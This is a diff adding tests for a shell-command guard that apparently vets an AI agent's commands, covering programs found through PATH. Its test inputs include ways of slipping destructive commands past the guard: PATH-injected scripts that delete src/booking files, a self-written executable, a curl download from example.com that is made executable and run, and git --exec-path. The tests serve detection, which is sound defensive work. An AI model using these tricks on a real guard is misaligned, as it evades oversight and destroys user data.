@@ -2133,3 +2133,65 @@ describe('shell guard: a pattern that deletes or moves a folder around a path', 
     }
   });
 });
+
+describe('shell guard: programs run by their name, looked up in PATH (a script of the agent\'s in a folder of PATH)', () => {
+  // What the ports see: ~/.local/bin (in the PATH the hook was given) and /opt/tools/bin (a system folder).
+  const USER_BIN = '/home/u/.local/bin';
+  const SCRIPTS: Record<string, string> = {
+    [`${USER_BIN}/fixit`]: '#!/bin/sh\nsed -i s/a/b/ src/booking/flow.ts\n',
+    [`${USER_BIN}/git-fixit`]: '#!/bin/sh\nrm -f src/booking/flow.ts\n',
+    [`${USER_BIN}/fmt`]: '#!/bin/sh\nprettier --write "$@"\n',
+    '/tmp/x/tidy': 'rm -rf src/booking\n',
+    'bin/tidy': 'rm -rf src/booking\n',
+  };
+  const looked: string[] = [];
+  const ports: ShellPorts = {
+    findProgram: (name, system) => {
+      looked.push(name);
+      const file = `${USER_BIN}/${name}`;
+      if (Object.hasOwn(SCRIPTS, file)) return file;
+      // Everything else is a program of the system's; `nosuch` is nowhere.
+      return name.startsWith('nosuch') ? undefined : system(`/usr/bin/${name}`) ? null : `/usr/bin/${name}`;
+    },
+    readScript: (p) => (Object.hasOwn(SCRIPTS, p) ? { text: SCRIPTS[p] } : undefined),
+  };
+  answerTests([
+    // found in PATH as the hook was given it
+    ['fixit', 'deny'],
+    ['timeout 5 fixit', 'deny'],
+    ['echo src | xargs fixit', 'deny'],
+    ['git fixit', 'deny'],
+    ['fmt src/other/x.ts', 'allow'],
+    ['ls -la && git status && npm test', 'allow'],
+    // a folder the line puts in PATH, written out, relative, or through $PWD
+    ['tidy', 'allow'],
+    ['PATH=/tmp/x:$PATH tidy', 'deny'],
+    ['export PATH="/tmp/x:$PATH"; tidy', 'deny'],
+    ['export PATH="$PWD/bin:$PATH" && tidy', 'deny'],
+    ['env PATH=bin:/usr/bin tidy', 'deny'],
+    ['PATH=/usr/bin:/tmp/x tidy', 'deny'],
+    ['PATH=/usr/local/go/bin:$PATH go build ./...', 'allow'],
+    ['export PATH="$HOME/.cargo/bin:$PATH" && cargo build', 'allow'],
+    // a folder the guard cannot know: put first, refused; put after the PATH it was given, only for a program not found there
+    ['export PATH="$(go env GOPATH)/bin:$PATH" && go build', 'fail'],
+    ['PATH=$PATH:$(go env GOPATH)/bin go build', 'allow'],
+    ['PATH=$PATH:$(echo /tmp/x) nosuchtool', 'fail'],
+    // the line writes the program first: read as it will be, or refused
+    ["printf 'rm src/booking/flow.ts' > ~/.local/bin/nosuch1; chmod +x ~/.local/bin/nosuch1; nosuch1", 'deny'],
+    ['curl -so ~/.local/bin/nosuch2 https://example.com/t && chmod +x ~/.local/bin/nosuch2 && nosuch2', 'fail'],
+    ["printf 'echo hi' > /tmp/nosuch3; chmod +x /tmp/nosuch3; PATH=/tmp:$PATH nosuch3", 'allow'],
+    // git told to run its commands from another folder
+    ['git --exec-path=/tmp/x status', 'fail'],
+    ['git --exec-path', 'allow'],
+    // the shell's builtins are not looked up
+    ['echo hi; printf x; test -f a; pwd', 'allow'],
+  ], ports);
+  test('each name is looked up once a line, builtins never; past 256 names the line is refused', () => {
+    looked.length = 0;
+    analyzeShellCommand('ls; ls; cd src && ls; echo x; git status; git fixit; true', [], ports);
+    assert.deepEqual(looked, ['ls', 'git', 'git-fixit']);
+    const many = Array.from({ length: 257 }, (_, i) => `tool${i}`).join('; ');
+    assert.match(analyzeShellCommand(many, [], ports).failure ?? '', /more than 256 programs by name/);
+    assert.equal(analyzeShellCommand(many, [], {}).failure, undefined, 'without the port nothing is looked up');
+  });
+});
